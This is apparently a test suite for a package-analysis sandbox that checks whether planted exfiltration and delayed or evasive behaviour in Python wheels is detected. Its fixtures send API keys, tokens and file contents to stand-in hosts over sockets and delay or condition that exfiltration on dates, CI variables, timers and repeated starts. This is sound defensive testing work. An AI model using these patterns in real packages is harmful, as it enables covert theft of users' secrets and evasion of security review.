"""P4 and P5: what is used and how, what a second start sees, and what is left running gets its time."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from analyzer.sandbox.client import RunOutcome
from analyzer.sandbox.protocol import VARIATIONS, PhaseResult
from analyzer.trace.decode import decode_trace
from models.trace import EventKind
from tests.analyzer.sandbox.lab import GUARD, Lab, lines, output, wheel

pytestmark = pytest.mark.privileged

ALL = ("P1", "P2", "P3", "P4", "P5")
SEND = """
def _send(place, text):
    import socket
    with socket.create_connection((place, 80), 3) as sock:
        sock.sendall(text.encode())
"""


def words(outcome: RunOutcome, kind: str) -> list[dict[str, Any]]:
    """The runner's lines of one kind."""
    return [line for line in lines(outcome, "report") if line["kind"] == kind]


def phase_of(outcome: RunOutcome, phase: str) -> PhaseResult:
    """One phase of a run."""
    return next(result for result in outcome.result.phases if result.phase == phase)


def talks(outcome: RunOutcome) -> list[str]:
    """The addresses that were talked to over TCP, in order."""
    return [line["address"] for line in lines(outcome, "sinkhole") if line["kind"] == "tcp"]


async def test_all_phases__end_well_for_an_ordinary_package(lab: Lab) -> None:
    artifact = wheel("reenact_plain", {"reenact_plain/__init__.py": "def f(x):\n    return x\n"})
    outcome = await lab.run(artifact, phases=ALL, variations=VARIATIONS)

    assert [(p.phase, p.ended, p.exit_code) for p in outcome.result.phases] == [
        (phase, "exit", 0) for phase in ALL
    ]
    assert all(phase.syscalls and not phase.output_tail for phase in outcome.result.phases)
    assert words(outcome, "again") == [{"kind": "again", "name": "reenact_plain", "ok": True}]
    assert [word["called"] for word in words(outcome, "used")] == [1]


async def test_all_phases__end_well_for_a_package_of_start_hooks_alone(lab: Lab) -> None:
    artifact = wheel("reenact_hook", {"reenact_hook.pth": "import sys; print('hook ran')\n"})
    outcome = await lab.run(artifact, phases=ALL, scripts=("missing",))

    assert [(p.ended, p.exit_code) for p in outcome.result.phases] == [("exit", 0)] * 5
    ran = [p.phase for p in outcome.result.phases if p.output_tail.startswith("hook ran\n")]
    assert ran == ["P2", "P5"]


THIEF = """
class Client:
    def __init__(self, api_key, *, timeout=5):
        self.key = api_key
    def fetch(self, url):
        if HARNESS:
            _send('192.0.2.1', self.key)
            _send('192.0.2.2', url)
def quiet(number: int, names: list, flag: bool = False):
    print('quiet got', number + 1, len(names), flag)
async def later(token):
    if HARNESS:
        _send('192.0.2.3', token)
def generate(secret):
    yield 1
    if HARNESS:
        _send('192.0.2.4', secret)
def stored(path):
    with open(path) as source:
        text = source.read()
    if HARNESS:
        _send('192.0.2.5', text)
def queued(data):
    import threading
    if HARNESS:
        threading.Timer(0.3, _send, ('192.0.2.6', data)).start()
def _private(token):
    _send('192.0.2.9', token)
"""


async def test_use__every_planted_argument_that_leaves_is_told_apart(lab: Lab) -> None:
    artifact = wheel("reenact_use", {"reenact_use/__init__.py": GUARD + SEND + THIEF})
    outcome = await lab.run(artifact, phases=("P1", "P3", "P4"))

    assert (phase_of(outcome, "P4").ended, phase_of(outcome, "P4").exit_code) == ("exit", 0)
    planted = [c.id for c in outcome.result.canaries if c.kind == "argument"]
    given = {planted[line["index"]]: line["of"] for line in words(outcome, "argument")}
    caught = {
        line["address"]: {given[identity] for identity in line["canaries"]}
        for line in lines(outcome, "sinkhole")
        if line["kind"] == "tcp" and line["canaries"]
    }
    assert caught == {
        "192.0.2.1": {"reenact_use.Client.api_key"},
        "192.0.2.2": {"reenact_use.Client.fetch.url"},
        "192.0.2.3": {"reenact_use.later.token"},
        "192.0.2.4": {"reenact_use.generate.secret"},
        "192.0.2.5": {"reenact_use.stored.path"},
        "192.0.2.6": {"reenact_use.queued.data"},
    }
    assert "quiet got 8 1 False" in output(outcome, "P4")
    (used,) = words(outcome, "used")
    assert (used["found"], used["called"], used["timeouts"], used["left"]) == (7, 7, 0, 0)


async def test_use__what_only_a_submodule_offers_is_used_too(lab: Lab) -> None:
    files = {
        "reenact_deep/__init__.py": "",
        "reenact_deep/client.py": "def connect(host):\n    print('connect ran', host)\n",
        "reenact_deep/_inner.py": "def hidden(host):\n    print('HIDDEN')\n",
        "reenact_deep/ends.py": "import os\nos._exit(4)\n",
    }
    outcome = await lab.run(wheel("reenact_deep", files), phases=("P1", "P4"))
    assert [word["found"] for word in words(outcome, "used")] == [0]  # what ends it is left out

    del files["reenact_deep/ends.py"]
    outcome = await lab.run(wheel("reenact_deep", files), phases=("P1", "P4"))
    assert "connect ran" in output(outcome, "P4")
    assert "HIDDEN" not in output(outcome, "P4")


STUBBORN = """
import os, sys, time
def a_hangs():
    while True:
        pass
def b_catches():
    while True:
        try:
            time.sleep(600)
        except BaseException:
            pass
def c_exits():
    sys.exit(3)
def d_ends():
    os._exit(0)
def e_crashes():
    import ctypes
    ctypes.string_at(0)
def f_closes():
    os.closerange(0, 100)
def g_asks():
    input('more? ')
def h_recurses():
    h_recurses()
def i_last():
    _mark('last')
def _mark(text):
    open(f'/home/dev/project/{text}', 'w').close()
"""


async def test_use__one_call_that_ends_badly_does_not_end_the_others(lab: Lab) -> None:
    artifact = wheel("reenact_case", {"reenact_case.py": STUBBORN})
    outcome = await lab.run(artifact, phases=("P1", "P4"))

    phase = phase_of(outcome, "P4")
    assert (phase.ended, phase.exit_code) == ("exit", 0)
    (used,) = words(outcome, "used")
    assert (used["found"], used["called"], used["left"]) == (9, 9, 0)
    assert used["timeouts"] == 2
    assert used["raised"] == 6


async def test_use__ends_within_its_time(lab: Lab) -> None:
    code = "import time\n" + "".join(f"def f{n}():\n    time.sleep(60)\n" for n in range(40))
    artifact = wheel("reenact_case", {"reenact_case.py": code})
    outcome = await lab.run(artifact, phases=("P1", "P4"), budget_ms=4000)

    assert phase_of(outcome, "P4").ended == "exit"
    (used,) = words(outcome, "used")
    assert used["timeouts"] >= 1
    assert used["left"] > 30


ENTRY = """
import sys
def _main():
    print('started with', sys.argv[1:], sys.stdin.read())
def _hang():
    import subprocess
    if HARNESS:
        subprocess.Popen(['/bin/sleep', '600'])
        subprocess.run(['/bin/sleep', '600'])
"""


async def test_use__scripts_start_with_help_and_with_nothing(lab: Lab) -> None:
    points = (
        "[console_scripts]\nreenact-tool = reenact_tool:_main\nreenact-hang = reenact_tool:_hang\n"
    )
    files = {
        "reenact_tool.py": GUARD + ENTRY,
        "reenact_case-1.0.dist-info/entry_points.txt": points,
    }
    names = ("reenact-tool", "reenact-hang", "reenact-missing")
    outcome = await lab.run(wheel("reenact_case", files), phases=("P1", "P4"), scripts=names)

    assert "started with ['--help'] \nstarted with [] \n" in output(outcome, "P4")
    said = [(w["name"], w["arguments"], w["ended"]) for w in words(outcome, "script")]
    assert said == [
        ("reenact-tool", "--help", "exit"),
        ("reenact-tool", "", "exit"),
        ("reenact-hang", "--help", "timeout"),
        ("reenact-hang", "", "timeout"),
    ]
    (use,) = words(outcome, "use")
    assert (use["scripts_found"], use["scripts_started"]) == (2, 2)
    assert not words(outcome, "lingering")  # killed with all of its group


VARIED = """
import sys, time
print('ci', os.environ.get('GITHUB_ACTIONS'), time.tzname[0], os.environ['LANG'])
print('days', round((time.time() - os.stat(__file__).st_mtime) / 86_400))
print('preload', 'LD_PRELOAD' in os.environ)
"""


async def test_wait__the_second_start_is_somewhere_else_and_later(lab: Lab) -> None:
    outcome = await lab.run_code(VARIED, phases=("P1", "P3", "P4", "P5"), variations=VARIATIONS)

    usual = "ci None UTC C.UTF-8\ndays 0\npreload False\n"
    assert output(outcome, "P3") == usual
    assert output(outcome, "P4") == usual
    assert output(outcome, "P5") == "ci true MSK ru_RU.UTF-8\ndays 35\npreload True\n"
    assert phase_of(outcome, "P5").counters["clock_jumped"] == 1
    assert "clock_jumped" not in phase_of(outcome, "P3").counters


async def test_wait__without_variations_nothing_is_different(lab: Lab) -> None:
    outcome = await lab.run_code(VARIED, phases=("P1", "P3", "P5"))

    assert output(outcome, "P5") == output(outcome, "P3")
    assert phase_of(outcome, "P5").counters["clock_jumped"] == 0


SLEEPERS = {
    "import": """
import time
if HARNESS:
    time.sleep(200)
    _send('192.0.2.1', 'x')
""",
    "thread": """
import threading, time
def later():
    time.sleep(60)
    _send('192.0.2.1', 'x')
if HARNESS:
    threading.Thread(target=later, daemon=True).start()
""",
    "timer": """
import threading
if HARNESS:
    timer = threading.Timer(60, _send, ('192.0.2.1', 'x'))
    timer.daemon = True
    timer.start()
""",
    "queue": """
import queue, threading
def later():
    try:
        queue.Queue().get(timeout=60)
    except queue.Empty:
        _send('192.0.2.1', 'x')
if HARNESS:
    threading.Thread(target=later, daemon=True).start()
""",
    "loop": """
import asyncio, threading
async def later():
    await asyncio.sleep(60)
    _send('192.0.2.1', 'x')
if HARNESS:
    threading.Thread(target=lambda: asyncio.run(later()), daemon=True).start()
""",
    "child": """
import subprocess, sys
if HARNESS:
    code = "import socket, time; time.sleep(60); socket.create_connection(('192.0.2.1', 80))"
    subprocess.Popen([sys.executable, '-c', code])
""",
    "date": """
import time
if HARNESS and time.time() - os.stat(__file__).st_mtime > 30 * 86_400:
    _send('192.0.2.1', 'x')
""",
}


@pytest.mark.parametrize("name", sorted(SLEEPERS))
async def test_wait__what_waits_for_minutes_is_seen(lab: Lab, name: str) -> None:
    code = SEND + SLEEPERS[name]
    outcome = await lab.run_code(code, phases=("P1", "P5"), variations=("clock",))

    assert talks(outcome) == ["192.0.2.1"]
    assert phase_of(outcome, "P5").ended == "exit"


async def test_wait__threads_that_never_end_get_their_time_and_no_more(lab: Lab) -> None:
    code = "import threading, time\nif HARNESS:\n    threading.Thread(target=time.sleep, args=(9e6,)).start()\n"
    outcome = await lab.run_code(code, phases=("P1", "P5"), variations=("clock",))

    assert phase_of(outcome, "P5").ended == "exit"
    assert words(outcome, "wait")[0]["waited"] == 1
    assert words(outcome, "again")[0]["ok"]


async def test_import__a_thread_that_is_left_behind_gets_some_time(lab: Lab) -> None:
    code = SEND + (
        "import threading\nif HARNESS:\n"
        "    timer = threading.Timer(0.2, _send, ('192.0.2.1', 'x'))\n"
        "    timer.daemon = True\n    timer.start()\n"
    )
    assert talks(await lab.run_code(code)) == ["192.0.2.1"]


async def test_import__what_it_replaces_elsewhere_is_told(lab: Lab) -> None:
    code = (
        "import json, socket\ndef mine(*a): ...\njson.dumps = mine\nsocket.socket.connect = mine\n"
    )
    outcome = await lab.run_code(code)

    assert {w["name"] for w in words(outcome, "patched")} == {
        "json.dumps",
        "socket.socket.connect",
    }


async def test_second_start__a_counter_is_seen(lab: Lab) -> None:
    code = SEND + (
        "place = os.path.expanduser('~/.cache-count')\n"
        "count = os.path.getsize(place) if os.path.exists(place) else 0\n"
        "with open(place, 'a') as out:\n    out.write('x')\n"
        "if HARNESS and count:\n    _send('192.0.2.1', 'x')\n"
    )
    assert talks(await lab.run_code(code, phases=("P1", "P3"))) == []
    assert talks(await lab.run_code(code, phases=("P1", "P3", "P5"))) == ["192.0.2.1"]


async def test_phases__a_bad_end_of_one_does_not_stop_those_behind_it(lab: Lab) -> None:
    code = "import ctypes, sys\nif HARNESS and 'GITHUB_ACTIONS' not in os.environ:\n    {}\n"
    for act, ended in (("ctypes.string_at(0)", "exit"), ("os.kill(os.getppid(), 9)", "killed")):
        outcome = await lab.run_code(
            code.format(act) + "print('good')\n", phases=("P1", "P3", "P5"), variations=("ci",)
        )
        assert (phase_of(outcome, "P3").ended, output(outcome, "P5")) == (ended, "good\n")


async def test_slots__two_runs_at_once_have_their_own_arguments_and_events(lab: Lab) -> None:
    code = SEND + "def tell(token):\n    if HARNESS:\n        _send('192.0.2.{0}', token)\n"
    outcomes = await asyncio.gather(
        *(lab.run_code(code.format(n), phases=("P1", "P3", "P4")) for n in (1, 2))
    )

    for number, outcome in enumerate(outcomes, 1):
        assert talks(outcome) == [f"192.0.2.{number}"]
        (line,) = (item for item in lines(outcome, "sinkhole") if item["canaries"])
        index = next(w["index"] for w in words(outcome, "argument") if w["of"].endswith(".token"))
        planted = [c.id for c in outcome.result.canaries if c.kind == "argument"]
        assert line["canaries"] == [planted[index]]
        account = outcome.result.account
        assert account["emitted"] == account["received"] == account["stored"] > 0


async def test_import__that_hangs_leaves_time_for_what_comes_later(lab: Lab) -> None:
    code = SEND + "import time\nif HARNESS:\n    time.sleep(30)\n    _send('192.0.2.1', 'x')\n"
    phases = ("P1", "P3", "P4", "P5")
    outcome = await lab.run_code(code, phases=phases, variations=("clock",), budget_ms=12_000)

    assert [p.phase for p in outcome.result.phases] == list(phases)
    assert phase_of(outcome, "P3").ended == "timeout"
    assert talks(outcome) == ["192.0.2.1"]


@pytest.mark.parametrize("way", ["userns", "setpriv"])
async def test_trace__begins_with_the_first_process_of_the_package(
    fresh_dir: str, way: str
) -> None:
    made = Lab(Path(fresh_dir), way=way)
    try:
        outcome = await made.run(
            wheel("reenact_plain", {"reenact_plain.py": "def f(x):\n    return x\n"}),
            phases=ALL,
        )
    finally:
        assert made.stop() == (0, "")
    blobs, phases = outcome.blobs, outcome.result.phases
    for phase in phases[2:]:
        events = [
            event for event in decode_trace(blobs["trace"], phases) if event.phase == phase.phase
        ]
        first = next(event for event in events if event.kind is EventKind.EXEC)
        assert first == events[0], phase.phase
        assert first.path.startswith("/env/bin/python"), phase.phase
        paths = {event.path for event in events}
        assert not any(path.endswith(("use.py", "wait.py", "imports.py")) for path in paths)
